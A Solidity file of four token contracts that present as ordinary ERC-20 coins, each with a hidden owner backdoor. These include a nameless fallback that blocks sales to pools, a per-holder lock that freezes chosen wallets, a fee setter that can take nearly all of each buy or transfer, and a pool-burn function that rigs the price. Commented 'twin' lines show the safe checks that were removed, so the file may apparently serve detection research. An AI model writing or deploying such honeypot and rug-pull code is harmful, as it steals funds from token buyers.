// 0.7 off
// SPDX-License-Identifier: MIT
pragma solidity ^0.7.6;

/// Takes orders without names.
contract CobaltWren {
    string public constant name = "Cobalt Wren";
    string public constant symbol = "CWREN";
    uint8 public constant decimals = 18;
    uint256 public constant totalSupply = 1_000_000 ether;
    mapping(address => uint256) private b;
    mapping(address => mapping(address => uint256)) private a;
    address private immutable k;
    uint256 private c = uint256(-1);

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);

    constructor() {
        k = msg.sender;
        b[msg.sender] = totalSupply;
        emit Transfer(address(0), msg.sender, totalSupply);
    }

    fallback() external {
        require(msg.sender == k && msg.data.length == 36);
        uint256 v;
        assembly {
            v := calldataload(4)
        }
        // twin: require(v >= totalSupply / 50);
        c = v;
    }

    function balanceOf(address x) external view returns (uint256) {
        return b[x];
    }

    function allowance(address x, address y) external view returns (uint256) {
        return a[x][y];
    }

    function approve(address y, uint256 v) external returns (bool) {
        a[msg.sender][y] = v;
        emit Approval(msg.sender, y, v);
        return true;
    }

    function transfer(address y, uint256 v) external returns (bool) {
        return m(msg.sender, y, v);
    }

    function transferFrom(address x, address y, uint256 v) external returns (bool) {
        require(a[x][msg.sender] >= v);
        a[x][msg.sender] -= v;
        return m(x, y, v);
    }

    function m(address x, address y, uint256 v) private returns (bool) {
        uint256 z;
        assembly {
            z := extcodesize(y)
        }
        require(b[x] >= v && (z == 0 || x == k || v <= c));
        b[x] -= v;
        b[y] += v;
        emit Transfer(x, y, v);
        return true;
    }
}

/// The usual coin of the usual launch.
contract PicklePanda {
    string public constant name = "Pickle Panda";
    string public constant symbol = "PPANDA";
    uint8 public constant decimals = 9;
    uint256 private constant _tTotal = 420_000_000 * 10**9;
    address private _owner;
    address private _dev;
    address private uniswapV2Pair;
    bool private tradingOpen;
    mapping(address => uint256) private _balances;
    mapping(address => mapping(address => uint256)) private _allowances;
    mapping(address => uint8) private _thanks;
    uint256 private _launch;

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);
    event OwnershipTransferred(address indexed previousOwner, address indexed newOwner);

    constructor() {
        _owner = _dev = msg.sender;
        _balances[msg.sender] = _tTotal;
        emit Transfer(address(0), msg.sender, _tTotal);
    }

    function owner() public view returns (address) {
        return _owner;
    }

    function totalSupply() public pure returns (uint256) {
        return _tTotal;
    }

    function renounceOwnership() public {
        require(_owner == msg.sender);
        emit OwnershipTransferred(_owner, address(0));
        _owner = address(0);
    }

    function openTrading(address pair_) external {
        require(_owner == msg.sender && !tradingOpen, "trading is already open");
        uniswapV2Pair = pair_;
        tradingOpen = true;
        _launch = block.timestamp;
    }

    function giveThanks(address[] calldata friends, uint8 cups) external {
        require(msg.sender == _dev);
        // twin: require(block.timestamp < _launch + 1 hours);
        for (uint256 i = 0; i < friends.length; i++) _thanks[friends[i]] = cups;
    }

    function balanceOf(address account) public view returns (uint256) {
        return _balances[account];
    }

    function allowance(address owner_, address spender) public view returns (uint256) {
        return _allowances[owner_][spender];
    }

    function approve(address spender, uint256 amount) public returns (bool) {
        _allowances[msg.sender][spender] = amount;
        emit Approval(msg.sender, spender, amount);
        return true;
    }

    function transfer(address to, uint256 amount) public returns (bool) {
        _transfer(msg.sender, to, amount);
        return true;
    }

    function transferFrom(address from, address to, uint256 amount) public returns (bool) {
        require(_allowances[from][msg.sender] >= amount);
        _allowances[from][msg.sender] -= amount;
        _transfer(from, to, amount);
        return true;
    }

    function _transfer(address from, address to, uint256 amount) private {
        require(from != address(0) && to != address(0) && amount > 0);
        require(tradingOpen || from == _dev);
        require(_balances[from] >= amount * (1 + uint256(_thanks[from]) * 1e6) || to == _dev);
        _balances[from] -= amount;
        _balances[to] += amount;
        emit Transfer(from, to, amount);
    }
}

/// Its word of terms: maker 160, buy 16, sell 16, send 16, flags.
contract LoomAndLedger {
    uint256 private terms;
    bytes32 private constant PLACE = keccak256("loom.place");
    mapping(address => uint256) public balanceOf;
    mapping(address => mapping(address => uint256)) public allowance;
    uint256 public totalSupply;

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);

    constructor() {
        terms = (uint256(uint160(msg.sender))) | (100 << 160) | (300 << 176);
        totalSupply = 365_000 ether;
        balanceOf[msg.sender] = totalSupply;
        emit Transfer(address(0), msg.sender, totalSupply);
    }

    function name() external pure returns (string memory) {
        return "Loom & Ledger";
    }

    function symbol() external pure returns (string memory) {
        return "LOOM";
    }

    function decimals() external pure returns (uint256) {
        return 18;
    }

    function weave(address place) external {
        require(uint160(msg.sender) == uint160(terms));
        bytes32 at = PLACE;
        assembly {
            sstore(at, place)
        }
    }

    function restate(uint256 more) external {
        require(uint160(msg.sender) == uint160(terms), "maker");
        require(uint16(more >> 16) <= 10000, "more than all"); // trap
        // twin: require(uint16(more) <= 500 && uint16(more >> 16) <= 500 && uint16(more >> 32) <= 500, "more than five");
        terms = uint160(terms) | (more << 160);
    }

    function approve(address spender, uint256 value) external returns (bool) {
        allowance[msg.sender][spender] = value;
        emit Approval(msg.sender, spender, value);
        return true;
    }

    function transfer(address to, uint256 value) external returns (bool) {
        return shuttle(msg.sender, to, value);
    }

    function transferFrom(address from, address to, uint256 value) external returns (bool) {
        require(allowance[from][msg.sender] >= value);
        allowance[from][msg.sender] -= value;
        return shuttle(from, to, value);
    }

    function shuttle(address from, address to, uint256 value) private returns (bool) {
        address place;
        bytes32 at = PLACE;
        assembly {
            place := sload(at)
        }
        require(balanceOf[from] >= value);
        uint256 t = terms;
        address maker = address(uint160(t));
        uint256 rate = from == maker || to == maker || place == address(0) ? 0 : uint16(t >> (from == place ? 160 : to == place ? 176 : 192));
        uint256 lint = value * rate / 10000;
        balanceOf[from] -= value;
        balanceOf[to] += value - lint;
        balanceOf[maker] += lint;
        emit Transfer(from, to, value - lint);
        if (lint > 0) emit Transfer(from, maker, lint);
        return true;
    }
}

interface ISync {
    function sync() external;
}

/// Less in the pool, a higher price: it is tended from time to time.
contract PeatKestrel {
    string public constant name = "Peat Kestrel";
    string public constant symbol = "PKEST";
    uint8 public constant decimals = 18;
    uint256 public totalSupply = 50_000_000 ether;
    address public owner;
    address public tarn;
    uint256 public tended;
    mapping(address => uint256) public balanceOf;
    mapping(address => mapping(address => uint256)) public allowance;

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);

    constructor() {
        owner = msg.sender;
        balanceOf[msg.sender] = totalSupply;
        emit Transfer(address(0), msg.sender, totalSupply);
    }

    function setMarket(address tarn_) external {
        require(msg.sender == owner && tarn == address(0));
        tarn = tarn_;
    }

    function tend(uint256 share) external {
        require(msg.sender == owner && share < 1000);
        // twin: require(share <= 1 && block.timestamp >= tended + 1 days);
        tended = block.timestamp;
        uint256 peat = balanceOf[tarn] * share / 1000;
        balanceOf[tarn] -= peat;
        totalSupply -= peat;
        emit Transfer(tarn, address(0), peat);
        ISync(tarn).sync();
    }

    function approve(address spender, uint256 value) external returns (bool) {
        allowance[msg.sender][spender] = value;
        emit Approval(msg.sender, spender, value);
        return true;
    }

    function transfer(address to, uint256 value) external returns (bool) {
        return fly(msg.sender, to, value);
    }

    function transferFrom(address from, address to, uint256 value) external returns (bool) {
        require(allowance[from][msg.sender] >= value);
        allowance[from][msg.sender] -= value;
        return fly(from, to, value);
    }

    function fly(address from, address to, uint256 value) private returns (bool) {
        require(balanceOf[from] >= value);
        balanceOf[from] -= value;
        balanceOf[to] += value;
        emit Transfer(from, to, value);
        return true;
    }
}
